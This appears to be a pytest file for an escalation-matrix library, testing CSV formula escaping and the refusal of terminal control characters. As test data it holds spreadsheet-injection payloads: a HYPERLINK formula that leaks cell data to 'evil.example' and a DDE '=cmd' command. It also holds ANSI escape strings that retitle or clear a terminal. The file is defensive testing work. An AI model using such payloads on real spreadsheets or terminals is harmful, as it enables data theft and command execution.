"""Output that spreadsheets and terminals cannot misread.

CSV cells a spreadsheet would evaluate are escaped; control characters are
refused in every display text (and in catalogs' translations), so that no
rendering can hold one.
"""

from __future__ import annotations

import csv
import importlib
import io
import json
import re
import sys
import unicodedata
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import tomli_w
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

import escalation_matrix as em
from escalation_matrix import (
    Action,
    Issue,
    IssueType,
    Level,
    Matrix,
    MatrixBuilder,
    Overlay,
    Role,
    Severity,
    default_matrix,
    plan,
    render,
    route,
    translate,
)
from escalation_matrix._cli.main import main
from escalation_matrix._i18n.translator import clear_cache, translator
from escalation_matrix._render.table import matrix_table
from escalation_matrix.contacts import Contact
from escalation_matrix.exceptions import ArgumentError, CatalogError, ValidationError
from escalation_matrix.rules import Compare, Rule
from escalation_matrix.typing import Format
from tests.catalog_files import catalog_path, write_catalog
from tests.helpers import small_matrix
from tests.strategies import matrices, multiline_texts, texts, visible

OPENED = datetime(2026, 11, 27, 9, 0, tzinfo=UTC)
NOW = OPENED + timedelta(hours=5)

#: Escape, bell, null, delete, next line and the 8-bit control sequence
#: introducer: C0, DEL and C1 controls that terminals act on.
CONTROLS = ["\x1b", "\x07", "\x00", "\x7f", "\x85", "\x9b"]
#: Any control character but the line feed.
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")


@pytest.fixture(autouse=True)
def environment(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """An English, UTC, 80-column environment, with no catalog read yet."""
    for name in ("LANGUAGE", "LC_ALL", "LC_MESSAGES", "LANG"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("TZ", "UTC")
    monkeypatch.setenv("COLUMNS", "80")
    clear_cache()
    yield
    clear_cache()


def run(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str, str]:
    """Run the command; return its status, standard output and standard error."""
    status = main([str(arg) for arg in args])
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def hostile(char: str) -> str:
    """A visible text holding the control character *char*."""
    return f"Outage{char}]0;pwned"


def control_bytes(text: str) -> set[str]:
    """The control characters of *text*, line feeds left out."""
    return set(CONTROL.findall(text))


# Safe CSV -------------------------------------------------------------

FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "after spaces": "  =1+1",
    "after a line break": "\n=cmd|' /C calc'!A0",
}


def formula_matrix() -> Matrix:
    """A matrix with formulas in texts, names and titles alike."""
    return small_matrix(
        levels=[
            Level("L1", 1, "agent", "=L1"),
            Level("L2", 2, "lead", "Second line"),
            Level("L3", 3, "boss", "Management"),
        ],
        roles=[
            Role("agent", "+Agent"),
            Role("lead", "Team lead"),
            Role("boss", "Boss"),
        ],
        issue_types=[
            IssueType(
                "outage",
                "@Outage",
                {"L1": FORMULAS["equals"], "L2": FORMULAS["plus"], "L3": "Plain."},
            ),
            IssueType(
                "billing",
                "Billing",
                {
                    "L1": FORMULAS["minus"],
                    "L2": FORMULAS["at"],
                    "L3": FORMULAS["after spaces"],
                },
            ),
            IssueType(
                "data",
                'Data, "quoted"',
                {"L1": FORMULAS["after a line break"], "L2": "a,b", "L3": "-"},
            ),
        ],
    )


def read_csv(text: str) -> list[list[str]]:
    """Read CSV as a spreadsheet's import does: RFC 4180 rows."""
    return list(csv.reader(io.StringIO(text, newline="")))


def grid(matrix: Matrix) -> list[list[str]]:
    """The cells of *matrix*'s table, as written, labels in its language."""
    return [list(row) for row in matrix_table(matrix).grid]


#: How the texts of the property tests start: formulas, and texts that
#: are not ("'" and "a" start text; "\u3000" is whitespace too).
STARTS = ["", "=", "+", "-", "@", " =", "\u3000@", "'", "a", "a="]


def assert_escaped(matrix: Matrix) -> None:
    """Every cell of *matrix*'s CSV reads back as text, with nothing lost."""
    rows = read_csv(render(matrix, "csv"))
    for read, written in zip(rows, grid(matrix), strict=True):
        for cell, text in zip(read, written, strict=True):
            assert not re.match(r"\s*[=+\-@]|[\t\r]", cell)
            expected = "'" + text if re.match(r"\s*[=+\-@]", text) else text
            assert cell == expected


class TestCsv:
    def test_formulas_are_escaped(self) -> None:
        """Each cell a spreadsheet would evaluate reads back with a leading '."""
        matrix = formula_matrix()
        rows = read_csv(render(matrix, "csv"))
        assert rows == [
            ["Escalation types", "'=L1", "Second line", "Management"],
            ["Operational role", "'+Agent", "Team lead", "Boss"],
            [
                "'@Outage",
                "'" + FORMULAS["equals"],
                "'" + FORMULAS["plus"],
                "Plain.",
            ],
            [
                "Billing",
                "'" + FORMULAS["minus"],
                "'" + FORMULAS["at"],
                "'" + FORMULAS["after spaces"],
            ],
            ['Data, "quoted"', "'" + FORMULAS["after a line break"], "a,b", "'-"],
        ]

    def test_escaped_cells_are_quoted_as_needed(self) -> None:
        """Escaped cells holding commas, quotes or line breaks are quoted."""
        out = render(formula_matrix(), "csv")
        assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in out
        assert "\"'\n=cmd|' /C calc'!A0\"" in out
        assert ",'+1+1," in out

    def test_keep_writes_texts_as_they_are(self) -> None:
        """With csv_formulas="keep", every cell reads back as written."""
        matrix = formula_matrix()
        assert read_csv(render(matrix, "csv", csv_formulas="keep")) == grid(matrix)

    @pytest.mark.parametrize("locale", [None, "en", "it"])
    def test_builtin_matrix_is_unchanged(self, locale: str | None) -> None:
        """The built-in matrix's texts are plain: escaping changes no byte."""
        matrix = default_matrix()
        escaped = render(matrix, "csv", locale=locale)
        assert escaped == render(matrix, "csv", locale=locale, csv_formulas="keep")

    @pytest.mark.parametrize("value", ["raw", "", True, None, "ESCAPE"])
    def test_unknown_choice(self, value: object) -> None:
        """Anything but "escape" or "keep" is refused, whatever the format."""
        with pytest.raises(ArgumentError, match="must be 'escape' or 'keep'") as info:
            render(default_matrix(), "md", csv_formulas=value)  # type: ignore[arg-type]
        assert info.value.argument == "csv_formulas"

    @settings(max_examples=200)
    @given(
        st.builds(str.__add__, st.sampled_from(STARTS), texts),
        st.lists(
            st.builds(str.__add__, st.sampled_from(STARTS), multiline_texts),
            min_size=3,
            max_size=3,
        ),
    )
    def test_no_cell_starts_a_formula(self, name: str, cells: list[str]) -> None:
        """Whatever the texts, no escaped cell starts a formula, and none is lost."""
        by_level = dict(zip(("L1", "L2", "L3"), cells, strict=True))
        matrix = small_matrix(issue_types=[IssueType("x", name, by_level)])
        assert_escaped(matrix)

    @settings(max_examples=25)
    @given(matrices(max_levels=3, max_issue_types=3))
    def test_any_matrix(self, matrix: Matrix) -> None:
        """In any language, no cell of any matrix starts a formula."""
        assert_escaped(matrix)

    def test_command_escapes(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        """The show command escapes formulas in CSV, as render() does."""
        path = tmp_path / "formulas.toml"
        em.dump(formula_matrix(), path)
        status, out, err = run(capsys, "show", path, "--format", "csv")
        assert (status, err) == (0, "")
        assert out == render(formula_matrix(), "csv", locale="en")
        assert read_csv(out)[1][1] == "'+Agent"

    def test_command_keeps(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        """With --csv-formulas keep, the show command writes texts as they are."""
        path = tmp_path / "formulas.json"
        em.dump(formula_matrix(), path)
        status, out, _ = run(
            capsys, "show", path, "--format", "csv", "--csv-formulas", "keep"
        )
        assert status == 0
        assert read_csv(out) == grid(formula_matrix())

    def test_command_refuses_an_unknown_choice(
        self, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """An unknown --csv-formulas is a usage error, listing the choices."""
        status, out, err = run(capsys, "show", "--format", "csv", "--csv-formulas", "x")
        assert (status, out) == (2, "")
        assert "'escape', 'keep'" in err


# Control characters refused ---------------------------------------------

#: Every display text, made through its constructor: how to make the object
#: with a text, and the path of the text in it.
Maker = Callable[[str], object]
CONSTRUCTORS: dict[str, tuple[Maker, str]] = {
    "matrix title": (lambda t: small_matrix(title=t), "$.title"),
    "matrix description": (lambda t: small_matrix(description=t), "$.description"),
    "level name": (lambda t: Level("L1", 1, "agent", t), "$.name"),
    "level description": (
        lambda t: Level("L1", 1, "agent", "L1", description=t),
        "$.description",
    ),
    "role title": (lambda t: Role("agent", t), "$.title"),
    "role description": (
        lambda t: Role("agent", "Agent", description=t),
        "$.description",
    ),
    "issue type name": (lambda t: IssueType("x", t, {"L1": "Go."}), "$.name"),
    "issue type description": (
        lambda t: IssueType("x", "X", {"L1": "Go."}, description=t),
        "$.description",
    ),
    "responsibility": (
        lambda t: IssueType("x", "X", {"L1": t}),
        "$.responsibilities.L1",
    ),
    "severity name": (lambda t: Severity("high", t), "$.name"),
    "severity description": (
        lambda t: Severity("high", "High", description=t),
        "$.description",
    ),
    "rule description": (
        lambda t: Rule("r", Compare("id", "exists"), entry_level="L2", description=t),
        "$.description",
    ),
    "contact name": (Contact, "$.name"),
    "contact email": (lambda t: Contact("Ada", email=f"ada{t}@example.com"), "$.email"),
    "contact phone": (lambda t: Contact("Ada", phone=f"+39 06{t}1234"), "$.phone"),
    "contact chat": (lambda t: Contact("Ada", chat=f"@ada{t}"), "$.chat"),
    "overlay title": (lambda t: Overlay("acme", title=t), "$.title"),
    "overlay description": (
        lambda t: Overlay("acme", description=t),
        "$.description",
    ),
    "overlay text": (
        lambda t: Overlay("acme", texts={"level:L1:name": t}),
        "$.texts['level:L1:name']",
    ),
    "overlay cell": (
        lambda t: Overlay("acme", texts={"cell:outage:L1": t}),
        "$.texts['cell:outage:L1']",
    ),
    "overlay new cell": (
        lambda t: Overlay(
            "acme",
            levels=[Level("L4", 4, "boss", "Board")],
            responsibilities={"L4": {"outage": t}},
        ),
        "$.responsibilities.L4.outage",
    ),
    "overlay changed name": (
        lambda t: Overlay("acme", changes={"levels": {"L1": {"name": t}}}),
        "$.changes.levels.L1.name",
    ),
    "overlay changed cell": (
        lambda t: Overlay(
            "acme",
            changes={"issue_types": {"outage": {"responsibilities": {"L1": t}}}},
        ),
        "$.changes.issue_types.outage.responsibilities.L1",
    ),
    "issue id": (lambda t: Issue("outage", OPENED, id=t), "$.id"),
    "action reason": (lambda t: Action.escalate(OPENED, t), "$.reason"),
}


def message_for(char: str) -> str:
    """What a problem says of the control character *char*."""
    return f"must not contain control character U+{ord(char):04X}"


class TestRefusedInCode:
    @pytest.mark.parametrize("char", CONTROLS)
    @pytest.mark.parametrize("field", CONSTRUCTORS)
    def test_constructors(self, field: str, char: str) -> None:
        """Every display text with a control character is refused, at its path."""
        make, path = CONSTRUCTORS[field]
        with pytest.raises(ValidationError) as info:
            make(hostile(char))
        assert [(p.path, message_for(char)) for p in info.value.problems] == [
            (p.path, p.message.partition(",")[0]) for p in info.value.problems
        ]
        assert path in [p.path for p in info.value.problems]

    @pytest.mark.parametrize("char", ["\x1b", "\t", "\r", "\x9b"])
    def test_a_text_of_controls_only(self, char: str) -> None:
        """A text of nothing but a control character says which one."""
        with pytest.raises(ValidationError, match=f"U\\+{ord(char):04X}"):
            Role("agent", char)

    @pytest.mark.parametrize("char", CONTROLS)
    def test_builder(self, char: str) -> None:
        """A builder's texts are checked when it builds, each at its path."""
        builder = (
            MatrixBuilder.from_matrix(small_matrix())
            .update(title=hostile(char))
            .update_level("L2", name=hostile(char))
            .set_text("role:agent:title", hostile(char))
            .set_responsibility("billing", "L3", hostile(char))
        )
        with pytest.raises(ValidationError) as info:
            builder.build()
        assert [p.path for p in info.value.problems] == [
            "$.title",
            "$.roles[0].title",
            "$.levels[1].name",
            "$.issue_types[1].responsibilities.L3",
        ]
        assert all(message_for(char) in p.message for p in info.value.problems)

    def test_overlay_applied(self) -> None:
        """Texts an overlay brings are checked before it can be applied."""
        with pytest.raises(ValidationError) as info:
            em.apply_overlay(
                small_matrix(),
                Overlay("acme", texts={"cell:outage:L2": "Go\x1b[2J"}),
            )
        assert [p.path for p in info.value.problems] == ["$.texts['cell:outage:L2']"]

    def test_message_quotes_the_place(self) -> None:
        """The message names the character and quotes the text around it."""
        with pytest.raises(ValidationError) as info:
            Role("agent", "x" * 30 + "\x1b]0;pwned\x07" + "y" * 30)
        (problem,) = info.value.problems
        assert problem.message == (
            "must not contain control character U+001B, got "
            "...'xxxxxxxxxxxxxxxxxxxx\\x1b]0;pwned\\x07yyyyyyyyyyy'..."
        )
        assert not control_bytes(str(info.value))


class TestLineBreaks:
    @pytest.mark.parametrize(
        "field",
        [
            "matrix title",
            "level name",
            "role title",
            "issue type name",
            "severity name",
            "contact name",
            "overlay title",
            "overlay text",
            "overlay changed name",
            "issue id",
        ],
    )
    def test_one_line_fields(self, field: str) -> None:
        """Titles, names, contacts and ids are one line."""
        make, path = CONSTRUCTORS[field]
        with pytest.raises(ValidationError) as info:
            make("First\nSecond")
        assert [p.path for p in info.value.problems] == [path]
        assert "must be one line, without line break U+000A" in str(info.value)

    @pytest.mark.parametrize(
        "field",
        [
            "matrix description",
            "level description",
            "role description",
            "issue type description",
            "responsibility",
            "severity description",
            "rule description",
            "overlay description",
            "overlay cell",
            "overlay new cell",
            "overlay changed cell",
            "action reason",
        ],
    )
    def test_multiline_fields(self, field: str) -> None:
        """Descriptions, responsibilities and reasons may break their lines."""
        make, _ = CONSTRUCTORS[field]
        make("First line\nSecond line")


#: Where each display text is in a matrix file, and the payload to change.
FILE_PATHS = [
    "$.title",
    "$.description",
    "$.policy.severities[0].name",
    "$.policy.severities[0].description",
    "$.policy.rules[0].description",
    "$.roles[0].title",
    "$.roles[0].description",
    "$.roles[0].contacts[0].name",
    "$.roles[0].contacts[0].chat",
    "$.levels[0].name",
    "$.levels[0].description",
    "$.issue_types[0].name",
    "$.issue_types[0].description",
    "$.issue_types[1].responsibilities.L2",
]


def full_payload() -> dict[str, Any]:
    """A matrix file's payload in which every kind of display text is given."""
    matrix = small_matrix(
        description="All texts.",
        roles=[
            Role(
                "agent",
                "Agent",
                description="First line.",
                contacts=[Contact("Ada", chat="@ada")],
            ),
            Role("lead", "Team lead"),
            Role("boss", "Boss"),
        ],
        policy=em.Policy(
            severities=[Severity("high", "High", description="Bad.")],
            rules=[
                Rule(
                    "vip",
                    Compare("id", "exists"),
                    entry_level="L2",
                    description="VIPs.",
                )
            ],
        ),
    )
    data: dict[str, Any] = em.to_dict(matrix)
    data["levels"][0]["description"] = "The first."
    data["issue_types"][0]["description"] = "Down."
    return data


def put(data: dict[str, Any], path: str, value: str) -> None:
    """Set the value at the JSON *path* of *data*."""
    steps = [
        name or int(index) for name, index in re.findall(r"\.(\w+)|\[(\d+)\]", path)
    ]
    target: Any = data
    for step in steps[:-1]:
        target = target[step]
    target[steps[-1]] = value


def encode(data: dict[str, Any], fmt: str) -> tuple[str, Format]:
    """Write *data* in *fmt*; return the text and the format to read it in."""
    if fmt == "json":
        return json.dumps(data), "json"
    if fmt == "raw json":
        # DEL and C1 controls unescaped, as JSON allows: the fast readers'
        # way in.
        return json.dumps(data, ensure_ascii=False), "json"
    if fmt == "toml":
        return tomli_w.dumps(data), "toml"
    return yaml.safe_dump(data, allow_unicode=False), "yaml"


class TestRefusedInFiles:
    @pytest.mark.parametrize("char", CONTROLS)
    @pytest.mark.parametrize("fmt", ["dict", "json", "raw json", "toml", "yaml"])
    def test_every_text(self, fmt: str, char: str) -> None:
        """Each text of a file with a control character is a problem at its path."""
        data = full_payload()
        for path in FILE_PATHS:
            put(data, path, hostile(char))
        load: Callable[[], object] = (
            (lambda: em.from_dict(data))
            if fmt == "dict"
            else (lambda: em.loads(*encode(data, fmt)))
        )
        with pytest.raises(ValidationError) as info:
            load()
        assert sorted(p.path for p in info.value.problems) == sorted(FILE_PATHS)
        assert all(message_for(char) in p.message for p in info.value.problems)

    @pytest.mark.parametrize("char", CONTROLS)
    @pytest.mark.parametrize("fmt", ["json", "raw json", "toml", "yaml"])
    @pytest.mark.parametrize(
        "path", ["$.issue_types[1].name", "$.issue_types[1].responsibilities.L3"]
    )
    def test_fast_readers(self, path: str, fmt: str, char: str) -> None:
        """Issue types, read in bulk, are refused like the rest."""
        data = em.to_dict(small_matrix())
        put(data, path, hostile(char))
        with pytest.raises(ValidationError) as info:
            em.loads(*encode(data, fmt))
        assert [p.path for p in info.value.problems] == [path]

    @pytest.mark.parametrize("fmt", ["json", "toml", "yaml"])
    def test_line_breaks(self, fmt: str) -> None:
        """A file may break the lines of a text, but not of a name."""
        data = em.to_dict(small_matrix())
        put(data, "$.issue_types[0].responsibilities.L1", "One.\nTwo.")
        put(data, "$.issue_types[0].description", "One.\nTwo.")
        assert em.loads(*encode(data, fmt)).responsibility("outage", "L1") == (
            "One.\nTwo."
        )
        put(data, "$.issue_types[0].name", "One\nTwo")
        with pytest.raises(ValidationError, match="must be one line") as info:
            em.loads(*encode(data, fmt))
        assert [p.path for p in info.value.problems] == ["$.issue_types[0].name"]

    def test_overlay_file(self, tmp_path: Path) -> None:
        """An overlay file's texts are refused when it is read."""
        path = tmp_path / "acme.toml"
        overlay = {
            "schema_version": 1,
            "overlay": "acme",
            "title": "ACME\x1b]0;pwned\x07",
            "texts": {"cell:outage:L2": "Go\x9b2J"},
        }
        path.write_text(tomli_w.dumps(overlay), "utf-8")
        with pytest.raises(ValidationError) as info:
            em.load(path, Overlay)
        assert [p.path for p in info.value.problems] == [
            "$.title",
            "$.texts['cell:outage:L2']",
        ]

    @settings(max_examples=300)
    @given(st.text(max_size=4))
    def test_every_reader_agrees(self, text: str) -> None:
        """Files and code refuse the same texts, names and responsibilities alike."""
        data = em.to_dict(small_matrix())
        data["issue_types"][0]["name"] = text
        data["issue_types"][0]["responsibilities"]["L1"] = text
        controls = {c for c in text if unicodedata.category(c) == "Cc"}
        name_ok = visible(text) and not controls
        cell_ok = visible(text) and controls <= {"\n"}
        loaders: list[Callable[[], object]] = [
            lambda: em.loads(json.dumps(data), "json"),
            lambda: em.loads(json.dumps(data, ensure_ascii=False), "json"),
            lambda: em.from_dict(data),
        ]
        expected = {"$.issue_types[0].name"} if not name_ok else set()
        expected |= {"$.issue_types[0].responsibilities.L1"} if not cell_ok else set()
        for load in loaders:
            if not expected:
                load()
                continue
            with pytest.raises(ValidationError) as info:
                load()
            assert {p.path for p in info.value.problems} == expected

    def test_command_validate(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        """The validate command lists each control character, and prints none."""
        data = em.to_dict(small_matrix())
        put(data, "$.levels[0].name", "L1\x1b]0;pwned\x07\x1b[2J")
        put(data, "$.issue_types[0].responsibilities.L2", "Go\x9b2J")
        path = tmp_path / "hostile.toml"
        path.write_text(tomli_w.dumps(data), "utf-8")
        status, out, err = run(capsys, "validate", path)
        assert (status, out) == (1, "")
        assert err.splitlines() == [
            f"{path}: $.levels[0].name: must not contain control character "
            "U+001B, got 'L1\\x1b]0;pwned\\x07\\x1b[2J'",
            f"{path}: $.issue_types[0].responsibilities.L2: must not contain "
            "control character U+009B, got 'Go\\x9b2J'",
        ]
        assert not control_bytes(err)

    def test_command_show_refuses(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        """The show command refuses such a file, printing nothing of it raw."""
        data = em.to_dict(small_matrix())
        put(data, "$.title", "\x1b]0;pwned\x07\x1b[2J")
        path = tmp_path / "hostile.json"
        path.write_text(json.dumps(data), "utf-8")
        status, out, err = run(capsys, "show", path)
        assert (status, out) == (1, "")
        assert "$.title: must not contain control character U+001B" in err
        assert not control_bytes(err)

    def test_key_in_a_path_is_quoted(self) -> None:
        """A key that is not a plain name is quoted in the path a problem prints."""
        data = em.to_dict(small_matrix())
        texts = data["issue_types"][0]["responsibilities"]
        texts["L1\x1b[2J"] = texts.pop("L1")
        with pytest.raises(ValidationError) as info:
            em.from_dict(data)
        assert "$.issue_types[0].responsibilities['L1\\x1b[2J']" in [
            p.path for p in info.value.problems
        ]
        assert not control_bytes(str(info.value))


# Catalogs -------------------------------------------------------------

#: Translations of small_matrix()'s texts: two unusable, two usable.
ITALIAN = [
    ("matrix:title", "Small matrix", "Piccola\x1b]0;pwned\x07"),
    ("level:L1:name", "First line", "Prima\nlinea"),
    ("level:L2:name", "Second line", "Seconda linea"),
    ("cell:outage:L1", "Restart it.", "Riavvialo.\x9b2J"),
    ("cell:outage:L2", "Find the cause.", "Trova la causa."),
]


class TestCatalogs:
    @pytest.mark.parametrize("suffix", [".po", ".mo"])
    def test_unusable_translations(self, tmp_path: Path, suffix: str) -> None:
        """Translations with control characters are not used, and are listed."""
        write_catalog(tmp_path, "it", ITALIAN, suffix=suffix)
        tr = translator("it", catalogs=[tmp_path])
        source = str(catalog_path(tmp_path, "it", suffix=suffix))
        assert [p.path for p in tr.problems] == [source] * 3
        # A compiled catalog has its messages in another order, and no lines.
        messages = sorted(p.message.partition("msgctxt ")[2] for p in tr.problems)
        assert [message.partition(":")[0] for message in messages] == [
            "'cell",
            "'level",
            "'matrix",
        ]
        assert message_for("\x9b") in messages[0]
        assert (
            "must be one line as its source is, without line break U+000A"
            in (messages[1])
        )
        assert message_for("\x1b") in messages[2]
        italian = translate(small_matrix(), "it", catalogs=[tmp_path])
        assert (italian.title, italian.level("L1").name) == (
            "Small matrix",
            "First line",
        )
        assert italian.level("L2").name == "Seconda linea"
        assert italian.row("outage")[:2] == ("Restart it.", "Trova la causa.")

    def test_strict(self, tmp_path: Path) -> None:
        """strict=True raises, listing each unusable translation."""
        write_catalog(tmp_path, "it", ITALIAN)
        with pytest.raises(CatalogError) as info:
            translate(small_matrix(), "it", catalogs=[tmp_path], strict=True)
        assert len(info.value.problems) == 3

    def test_line_break_where_the_source_has_one(self, tmp_path: Path) -> None:
        """A text of several lines may be translated on several lines."""
        matrix = small_matrix(description="Line one.\nLine two.")
        entries = [("matrix:description", "Line one.\nLine two.", "Uno.\nDue.")]
        write_catalog(tmp_path, "it", entries)
        assert translator("it", catalogs=[tmp_path]).problems == ()
        translated = translate(matrix, "it", catalogs=[tmp_path])
        assert translated.description == "Uno.\nDue."

    def test_library_messages(self, tmp_path: Path) -> None:
        """The library's own messages fall back to the built-in translation."""
        write_catalog(
            tmp_path, "it", [("table", "Escalation types", "Tipi\x1b[31m rossi")]
        )
        out = render(small_matrix(), "md", locale="it", catalogs=[tmp_path])
        assert out.splitlines()[2].startswith("| Tipi di escalation |")

    def test_language_pack(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """A language pack's translations are checked the same way."""
        site = tmp_path / "site"
        write_catalog(site / "pack_hostile" / "catalogs", "it", ITALIAN)
        (site / "pack_hostile" / "__init__.py").write_text(
            "from pathlib import Path\nHERE = Path(__file__).parent / 'catalogs'\n",
            "utf-8",
        )
        info = site / "pack_hostile-1.0.dist-info"
        info.mkdir()
        (info / "METADATA").write_text(
            "Metadata-Version: 2.1\nName: pack_hostile\nVersion: 1.0\n", "utf-8"
        )
        (info / "entry_points.txt").write_text(
            "[escalation_matrix.catalogs]\npack_hostile = pack_hostile:HERE\n", "utf-8"
        )
        monkeypatch.syspath_prepend(str(site))
        importlib.invalidate_caches()
        clear_cache()
        try:
            tr = translator("it")
            assert len(tr.problems) == 3
            assert tr.pgettext("level:L2:name", "Second line") == "Seconda linea"
            assert tr.pgettext("matrix:title", "Small matrix") == "Small matrix"
        finally:
            sys.modules.pop("pack_hostile", None)

    def test_command_validate(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        """The validate command lists such translations, printing none raw."""
        path = write_catalog(tmp_path, "it", ITALIAN)
        status, out, err = run(capsys, "validate", "--catalogs", tmp_path)
        assert (status, out) == (1, "")
        lines = err.splitlines()
        assert len(lines) == 3
        assert all(line.startswith(f"{path}: ") for line in lines)
        assert not control_bytes(err)

    def test_command_show(
        self, capsys: pytest.CaptureFixture[str], tmp_path: Path
    ) -> None:
        """The show command warns about such translations, showing source texts."""
        write_catalog(tmp_path, "it", ITALIAN)
        matrix = tmp_path / "small.toml"
        em.dump(small_matrix(), matrix)
        status, out, err = run(
            capsys, "show", matrix, "--locale", "it", "--catalogs", tmp_path
        )
        assert status == 0
        assert out.splitlines()[0] == "Small matrix"
        assert "Seconda linea" in out
        assert len(err.splitlines()) == 3
        assert not control_bytes(out + err)


# Output free of control characters ------------------------------------


def outputs(matrix: Matrix, locale: str | None) -> dict[str, str]:
    """Every rendering of *matrix*, and of a decision and a plan made with it."""
    issue = Issue(matrix.issue_types[0].key, OPENED)
    found = {
        fmt: render(matrix, fmt, locale=locale, width=60)
        for fmt in ("text", "md", "html")
    }
    found["csv"] = render(matrix, "csv", locale=locale)
    found["csv kept"] = render(matrix, "csv", locale=locale, csv_formulas="keep")
    found["narrow"] = render(matrix, locale=locale, width=24)
    found["decision"] = render(route(matrix, issue, now=NOW), locale=locale)
    found["plan"] = render(plan(matrix, issue), locale=locale, timezone="UTC")
    return found


def assert_clean(found: dict[str, str]) -> None:
    """No output holds a control character but line feeds (CRLF in CSV)."""
    for name, text in found.items():
        lines = text.replace("\r\n", "\n") if name.startswith("csv") else text
        assert not control_bytes(lines), name


class TestCleanOutput:
    @pytest.mark.parametrize("locale", [None, "en", "it"])
    def test_builtin_matrix(self, locale: str | None) -> None:
        """Every rendering of the built-in matrix is free of control characters."""
        assert_clean(outputs(default_matrix(), locale))

    @settings(max_examples=50, deadline=None)
    @given(matrices(max_levels=3, max_issue_types=2))
    def test_any_matrix(self, matrix: Matrix) -> None:
        """Whatever its texts, a valid matrix renders without control characters."""
        assert_clean(outputs(matrix, None))

    def test_line_breaks_of_a_description(self) -> None:
        """Line feeds, blank lines included, are the only breaks a text brings."""
        matrix = small_matrix(description="One.\n\nTwo.\n")
        found = {fmt: render(matrix, fmt) for fmt in ("text", "md", "html", "csv")}
        assert_clean(found)
        assert "\nOne.  \nTwo.\n" in found["md"]
        assert "<p>One.\n\nTwo.\n</p>" in found["html"]

    def test_forced_control_is_shown(self) -> None:
        r"""A control character forced into a matrix is shown as \x1b."""
        matrix = small_matrix()
        # No valid object holds one: set it behind the checks' back.
        object.__setattr__(matrix.level("L1"), "name", "First\x1b]0;pwned\x07")
        object.__setattr__(matrix, "title", "Small\x9b2J")
        object.__setattr__(matrix.role("agent"), "title", "Agent\x07")
        found = {
            fmt: render(matrix, fmt, width=60) for fmt in ("text", "md", "html", "csv")
        }
        assert_clean(found)
        assert "First\\x1b]0;pwned\\x07" in found["html"]
        assert "Small\\x9b2J" in found["text"]
        assert "Agent\\x07" in found["csv"]

    def test_forced_control_in_a_decision_is_shown(self) -> None:
        """A control character forced into a decision's reasons is shown too."""
        action = Action.escalate(OPENED + timedelta(minutes=5), "Because")
        object.__setattr__(action, "reason", "Because\x1b[2J")
        issue = Issue("outage", OPENED, actions=[action])
        found = {"decision": render(route(small_matrix(), issue, now=NOW), width=200)}
        assert_clean(found)
        assert "Because\\x1b[2J" in found["decision"]
